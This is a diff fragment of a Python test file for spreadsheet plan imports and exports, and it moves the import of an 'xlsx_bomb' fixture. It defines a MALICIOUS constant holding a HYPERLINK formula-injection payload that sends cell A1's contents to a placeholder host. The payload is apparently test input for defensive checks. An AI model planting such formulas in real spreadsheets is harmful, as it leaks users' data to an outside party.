@@ -9,7 +9,7 @@ from openpyxl import load_workbook
 from kynangso.plans import api as plans
 from kynangso.plans.exports import write_board_xlsx
 from kynangso.plans.importers import import_plan
-from tests.test_tabular import xlsx_bomb
+from tests.support.files import xlsx_bomb
 
 MALICIOUS = '=HYPERLINK("http://x?d="&A1,"x")'
 
